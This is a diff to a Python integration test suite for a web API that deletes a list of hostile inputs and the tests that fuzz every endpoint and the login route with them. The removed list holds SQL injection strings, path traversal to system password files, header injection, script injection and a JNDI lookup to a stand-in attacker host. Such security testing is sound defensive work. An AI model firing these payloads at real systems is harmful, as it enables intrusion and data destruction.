@@ -2,14 +2,12 @@
 
 import asyncio
 import contextlib
-import copy
 import json
 import socket
 from collections import Counter
-from collections.abc import AsyncIterator, Iterator
+from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
-from urllib.parse import quote
 
 import asyncpg
 import httpx
@@ -19,95 +17,12 @@ from websockets.asyncio.client import connect
 from websockets.exceptions import InvalidStatus
 
 from services.shared.ids import new_id
-from tests.security.test_matrix import ALONE, DOCUMENT, Operation, ids_of, person
+from tests.security.test_matrix import DOCUMENT, person
 from tests.support.account_server import PASSPHRASE, AccountServer
 from tests.support.real_services import real_services
 from tests.support.user_management import UserManagement
 
 pytestmark = pytest.mark.integration
-
-HOSTILE = [
-    "' OR '1'='1",
-    "'; DROP TABLE users; --",
-    "1); SELECT pg_sleep(5); --",
-    "../../../../etc/passwd",
-    "..\\..\\windows\\win.ini",
-    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
-    "a\r\nSet-Cookie: evil=1",
-    "<script>alert(1)</script>",
-    "${jndi:ldap://evil.example/x}",
-    "{{7*7}}",
-    "\u0000",
-    "\ud7ff\U0010ffff\u202e",
-    "A" * 5_000,
-]
-
-
-def variants(value: Any, hostile: str) -> Iterator[Any]:
-    """The body with one text after the other replaced."""
-    if isinstance(value, dict):
-        for key, item in value.items():
-            for changed in variants(item, hostile):
-                yield {**value, key: changed}
-    elif isinstance(value, list):
-        for position, item in enumerate(value):
-            for changed in variants(item, hostile):
-                yield [*value[:position], changed, *value[position + 1 :]]
-    elif isinstance(value, str):
-        yield hostile
-
-
-async def test_hostile_texts_are_texts_in_every_field(accounts: AccountServer, sql: asyncpg.Connection) -> None:
-    ann, hers = await person(accounts)
-    counts: Counter[int] = Counter()
-    wrong: list[tuple[str, str, int]] = []
-
-    async def send(operation: Operation, path: str, hostile: str, **options: Any) -> None:
-        answer = await hers.request(operation.method, path, **options)
-        counts[answer.status_code] += 1
-        told = answer.text + str(answer.headers)
-        if answer.status_code >= 500 or "root:" in told or "evil=1" in answer.headers.get("set-cookie", ""):
-            wrong.append((operation.name, hostile[:20], answer.status_code))
-
-    async with hers:
-        spared = ("/auth/logout", "/auth/session", "/users/me")
-        for operation in ALONE:
-            if operation.method == "DELETE" and operation.path.endswith(spared):
-                continue
-            for hostile in HOSTILE:
-                if "{" in operation.path:
-                    path = operation.path
-                    for name in ids_of():
-                        path = path.replace(f"{{{name}}}", quote(hostile, safe=""))
-                    await send(operation, path, hostile, json=operation.body())
-                names = [item["name"] for item in operation.spec.get("parameters", []) if item["in"] == "query"]
-                plain = operation.path
-                for name, value in ids_of().items():
-                    plain = plain.replace(f"{{{name}}}", value)
-                for name in names:
-                    await send(operation, plain, hostile, params={name: hostile})
-                body = operation.body()
-                if body is not None and operation.path.split("/")[3] != "auth":
-                    for changed in variants(copy.deepcopy(body), hostile):
-                        await send(operation, plain, hostile, json=changed)
-    print(f"{sum(counts.values())} requests with hostile texts:", dict(sorted(counts.items())))
-    assert wrong == []
-    assert await sql.fetchval("SELECT count(*) FROM users WHERE id = $1", ann.id) == 1
-
-
-async def test_hostile_texts_sign_nobody_in(accounts: AccountServer) -> None:
-    await person(accounts)
-    async with accounts.client() as http:
-        for hostile in HOSTILE:
-            for body in (
-                {"identifier": hostile, "password": hostile},
-                {"identifier": "admin' --", "password": hostile},
-            ):
-                answer = await http.post("/api/v1/auth/login", json=body, headers={"x-forwarded-for": "192.0.2.1"})
-                assert answer.status_code in {401, 422, 429}, hostile
-            for path in ("refresh", "email/verify"):
-                body = {"refresh_token" if path == "refresh" else "token": hostile}
-                assert (await http.post(f"/api/v1/auth/{path}", json=body)).status_code in {401, 422}
 
 
 async def test_fifty_refreshes_at_once_leave_one_family_or_none(
